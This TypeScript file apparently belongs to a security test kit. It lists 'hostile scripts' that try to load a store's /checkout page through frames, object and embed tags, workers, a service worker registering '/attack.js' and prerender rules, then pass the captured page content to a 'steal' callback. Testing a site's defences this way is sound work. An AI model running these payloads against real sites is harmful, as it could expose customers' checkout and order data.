import type { HostileScript } from "./hostile-kit.ts";

/** Load the checkout into something of the page. */
export const LOADING_SCRIPTS: Readonly<Record<string, HostileScript>> = {
  "a frame": ({ embed }) => embed("iframe", "src", "/checkout"),
  "a frame of an order's page": async ({ embed, ids }) => {
    for (const id of ids().slice(0, 3)) await embed("iframe", "src", `/order-status?id=${id}`);
  },
  "a frame without a source that is moved": async ({ steal }) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.hidden = true;
    frame.contentWindow?.location.replace("/checkout");
    await new Promise((resolve) => setTimeout(resolve, 250));
    steal(frame.contentDocument?.documentElement.outerHTML);
    frame.remove();
  },
  "a frame within a frame": async ({ steal }) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.srcdoc = "<iframe src='/checkout'></iframe>";
    await new Promise((resolve) => setTimeout(resolve, 250));
    steal(frame.contentDocument?.querySelector("iframe")?.contentDocument?.documentElement.outerHTML);
    frame.remove();
  },
  "a form sent to a frame": async ({ steal }) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = "taken";
    const form = document.body.appendChild(document.createElement("form"));
    form.method = "post";
    form.action = "/checkout/update";
    form.target = "taken";
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 250));
    steal(frame.contentDocument?.documentElement.outerHTML);
    frame.remove();
    form.remove();
  },
  "an object": ({ embed }) => embed("object", "data", "/checkout"),
  "an embedded file": ({ embed }) => embed("embed", "src", "/checkout"),
  "a script": ({ embed }) => embed("script", "src", "/api/commerce/checkout"),
  "a sheet": ({ embed, steal }) => {
    steal([...document.styleSheets].map(({ href }) => href));
    return embed("link", "href", "/checkout");
  },
  "an import": async ({ steal }) => steal(await import(`${location.origin}/checkout`)),
  "a picture on a canvas": ({ embed }) => embed("img", "src", "/checkout"),
  "a worker that asks": async ({ steal }) => {
    const text = "fetch(new URL('/checkout', origin)).then((r) => r.text()).then(postMessage)";
    const worker = new Worker(URL.createObjectURL(new Blob([text.replace("origin", `'${location.origin}'`)])));
    worker.onmessage = ({ data }) => steal(data);
    await new Promise((resolve) => setTimeout(resolve, 250));
    worker.terminate();
  },
  "a worker made of the checkout": async ({ steal }) => {
    const worker = new Worker("/checkout");
    worker.onmessage = ({ data }) => steal(data);
    await new Promise((resolve) => setTimeout(resolve, 200));
  },
  "a service worker": async ({ steal }) => {
    for (const url of ["/attack.js", "/universal/attack.js", "/s/attack.js", "/assets/attack.js"]) {
      await navigator.serviceWorker.register(url, { scope: "/" }).then(
        ({ scope }) => steal(`worker of ${scope}`),
        () => undefined,
      );
    }
  },
  "a prerendered page": () => {
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    rules.textContent = JSON.stringify({ prerender: [{ urls: ["/checkout"] }], prefetch: [{ urls: ["/checkout"] }] });
    document.head.append(rules);
    const link = document.head.appendChild(document.createElement("link"));
    link.rel = "prerender";
    link.href = "/checkout";
  },
};
